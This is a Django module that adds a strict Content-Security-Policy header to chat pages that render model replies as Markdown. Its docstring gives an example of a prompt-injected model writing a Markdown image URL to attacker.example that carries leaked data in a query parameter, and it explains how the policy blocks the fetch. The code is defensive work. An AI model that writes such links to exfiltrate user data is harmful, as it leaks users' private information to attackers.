"""The Content-Security-Policy of the chat pages: what a page may load, so model text cannot send data out.

The pages render model replies as Markdown. A prompt-injected model can write
``![x](https://attacker.example/p.png?leak=...)``; the page's script shows remote images as links, never
``<img>``, and this policy stops the browser from fetching anything off the site anyway: scripts, styles,
images, fonts and connections come from the site itself (images also from ``data:`` and ``blob:`` URLs),
the websocket from the page's host, and no inline script runs (the pages have none; their data is a
``json_script`` block, which is not executed).

Every view of :mod:`robotlab_django.chat.views` sends it (:func:`content_security_policy`), unless the response
already carries one (a project's own middleware wins). ``ROBOTLAB["CONTENT_SECURITY_POLICY"]`` replaces the
policy; ``""`` sends none.
"""

from __future__ import annotations

import functools
from collections.abc import Callable
from typing import Concatenate, ParamSpec

from django.http import HttpRequest, HttpResponseBase

from robotlab_django.conf import app_settings

__all__ = ["HEADER", "content_security_policy", "policy_for"]

HEADER = "Content-Security-Policy"

P = ParamSpec("P")


def policy_for(request: HttpRequest) -> str:
    """The policy of a page served for ``request``: ``ROBOTLAB["CONTENT_SECURITY_POLICY"]``, else the strict one."""
    configured = app_settings.CONTENT_SECURITY_POLICY
    if configured is not None:
        return str(configured)
    host = request.get_host()
    return "; ".join([
        "default-src 'self'", "script-src 'self'", "style-src 'self'", "img-src 'self' data: blob:",
        f"connect-src 'self' ws://{host} wss://{host}", "font-src 'self'", "object-src 'none'", "base-uri 'self'",
        "form-action 'self'", "frame-ancestors 'none'",
    ])


def content_security_policy(view: Callable[Concatenate[HttpRequest, P], HttpResponseBase]
                            ) -> Callable[Concatenate[HttpRequest, P], HttpResponseBase]:
    """Decorate a view so that its response carries the pages' policy (see the module's docs)."""

    @functools.wraps(view)
    def wrapper(request: HttpRequest, /, *args: P.args, **kwargs: P.kwargs) -> HttpResponseBase:
        response = view(request, *args, **kwargs)
        policy = policy_for(request)
        if policy and HEADER not in response:
            response[HEADER] = policy
        return response

    return wrapper
